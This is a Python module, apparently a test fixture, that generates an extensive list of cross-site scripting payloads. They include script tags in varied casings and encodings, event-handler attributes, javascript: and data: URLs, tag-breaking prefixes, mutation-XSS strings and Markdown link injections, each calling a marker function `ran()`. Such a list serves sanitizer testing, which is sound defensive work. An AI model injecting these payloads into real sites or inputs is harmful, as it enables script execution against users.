"""Texts that would run a script if any of them were taken for more than text.

The families are those that lists of such texts agree on: scripts, handlers of events, addresses that are
programs, what ends an element or an attribute early, what only a second reading makes dangerous, and what
Markdown adds. Each calls `ran`.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator

CALL = "ran()"
_SCRIPT = f"<script>{CALL}</script>"
_IMAGE = f"<img src=x onerror={CALL}>"
_LOAD = f"<svg onload={CALL}>"

_SCRIPTS = (
    _SCRIPT,
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<script/x>{CALL}</script>",
    f"<script\t>{CALL}</script\n>",
    f"<script>{CALL}",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f'<script src="data:;base64,{b64encode(CALL.encode()).decode()}"></script>',
    f"<script type=module>{CALL}</script>",
    f"<script async>setTimeout('{CALL}')</script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script xlink:href=data:,{CALL} /></svg>",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<template><script>{CALL}</script></template>",
    f"<script>{CALL}<!--",
    f"<!--><script>{CALL}</script>-->",
    f"<![CDATA[><script>{CALL}</script>]]>",
    f"<?xml version='1.0'?><script>{CALL}</script>",
    f"\\<script>{CALL}\\</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\ufe64script\ufe65{CALL}\ufe64/script\ufe65",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"<script\u2028>{CALL}</script>",
)
_ENDS = (
    "</title>",
    "</style>",
    "</textarea>",
    "</script>",
    "</noscript>",
    "</template>",
    "</select>",
    "</xmp>",
    "</a>",
    "</p>",
    "</div>",
    "</main>",
    "</body>",
    "</html>",
    "-->",
    "]]>",
    '">',
    "'>",
    "`>",
    '"/>',
    "\"`'>",
    "&quot;>",
    '\\">',
    "?>",
    "%>",
    "}}",
    "{{",
    "{%",
)
_HANDLERS = (
    ("img src=x", "onerror"),
    ("img src=/", "onload"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("svg><g", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><animate attributeName=x dur=1ms", "onend"),
    ("svg><set attributeName=x dur=1s", "onbegin"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("body", "onfocus"),
    ("body", "onscroll"),
    ("iframe", "onload"),
    ("iframe srcdoc=x", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("audio src=x", "onloadstart"),
    ("input autofocus", "onfocus"),
    ("input autofocus", "onblur"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus tabindex=1", "onfocus"),
    ("a href=#", "onclick"),
    ("a", "onmouseover"),
    ("p", "onpointerenter"),
    ("p", "onpointerrawupdate"),
    ("p contenteditable autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("div popover", "onbeforetoggle"),
    ("dialog open", "onclose"),
    ("marquee", "onstart"),
    ("marquee loop=1", "onfinish"),
    ("meter", "onmouseover"),
    ("style>@keyframes x{}</style><p style=animation-name:x", "onanimationstart"),
    ("p style=transition:1ms", "ontransitionend"),
    ("form", "onsubmit"),
    ("form", "onreset"),
    ("form><input", "oninvalid"),
    ("input", "oninput"),
    ("input", "onchange"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("track default src=x", "onerror"),
    ("isindex type=image src=x", "onerror"),
    ("keygen autofocus", "onfocus"),
    ("x", "onclick"),
    ("x-y", "oncopy"),
    ("bdo", "oncontextmenu"),
    ("table", "ondrag"),
    ("p", "onwheel"),
    ("p", "onauxclick"),
)
_QUOTED = ("={}", '="{}"', "='{}'", " = {}", "=\t{}", "\n={}", "={}//")
_PROGRAMS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&#10;script:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A&#x61vascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript://x%0a{CALL}",
    f"javascript:'{_SCRIPT}'",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    f"data:text/html,{_SCRIPT}",
    f"data:text/html;base64,{b64encode(_SCRIPT.encode()).decode()}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"DATA:text/html;charset=utf-8,{_SCRIPT}",
    f"blob:{CALL}",
    f"filesystem:{CALL}",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    f"jar:javascript:{CALL}",
)
_LEADING = (
    "<a href='{}'>x</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><input type=submit></form>",
    "<button formaction='{}'>x</button>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<link rel=stylesheet href='{}'>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>",
    "<svg><use href='{}'/></svg>",
    "<svg><image href='{}'/></svg>",
    "<math href='{}'>x</math>",
    "<map><area href='{}'></map>",
    "<input type=image src='{}'>",
    "<video poster='{}'></video>",
    "<p style='background:url({})'>x</p>",
    "<style>@import '{}';</style>",
    "<iframe srcdoc='<a href={}>x</a>'></iframe>",
    "<portal src='{}'></portal>",
)
_MARKDOWN = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "<{}>",
    "[![x](y)]({})",
    "[x\n]({})",
    "[`x`]({})",
    "**[x]({})**",
)
_WRITTEN = (
    f'[x](https://a.example "onmouseover={CALL}")',
    f'[x](https://a.example"onmouseover="{CALL})',
    f"[x](https://a.example'onmouseover='{CALL})",
    f'[x](https://a.example "\\"onmouseover=\\"{CALL}")',
    f'![x"onerror="{CALL}](y)',
    f'![x](y"onerror="{CALL})',
    f"[{_IMAGE}](https://a.example)",
    f"`{_IMAGE}`",
    f"``{_SCRIPT}``",
    f"**{_IMAGE}**",
    f"*{_LOAD}*",
    f"~~{_SCRIPT}~~",
    f"[[{_LOAD}]]",
    f"https://a.example/{_SCRIPT}",
    f"mailto:a@a.example{_LOAD}",
    f"<a@a.example{_LOAD}>",
    f"\\\\{_IMAGE}",
    f"& {_IMAGE} &amp; &",
)
_READ_TWICE = (
    f'<noscript><p title="</noscript>{_IMAGE}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMAGE}">',
    f'<svg></p><style><a id="</style>{_IMAGE}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}",
    f'<p id="</p>{_IMAGE}">',
    f"<table><td>{_IMAGE}</table>",
    f"<select><option>{_IMAGE}",
    f"<textarea>{_IMAGE}",
    f"<title>{_IMAGE}</title>",
    f"<xmp>{_IMAGE}</xmp>",
    f"<plaintext>{_IMAGE}",
    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    f"<img src=x:x onerror\u3000={CALL}>",
    f"<img src='x' \u0000onerror={CALL}>",
    f"<im\u0000g src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img\x0csrc=x\x0conerror={CALL}>",
    "<img src=x onerror=&#114;an()>",
    "<img src=x onerror=\\u0072an()>",
    f"<b onmouseover={CALL}>x</b>",
    f"<i onclick={CALL}>x</i>",
    f"<b/onclick={CALL}>x</b>",
    f"<strong id=x onfocus={CALL}>x</strong>",
)


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from _SCRIPTS
    for end in _ENDS:
        yield end + _SCRIPT
        yield end + _IMAGE
    for at, (element, event) in enumerate(_HANDLERS):
        yield f"<{element} {event}{_QUOTED[at % len(_QUOTED)].format(CALL)}>"
        yield f"<{element} {event.upper()}={CALL} x>"
    for at, program in enumerate(_PROGRAMS):
        yield _LEADING[at % len(_LEADING)].format(program)
        for written in _MARKDOWN:
            yield written.format(program)
    for leading in _LEADING:
        yield leading.format(_PROGRAMS[0])
        yield leading.format(_PROGRAMS[15])
    yield from _WRITTEN
    yield from _READ_TWICE
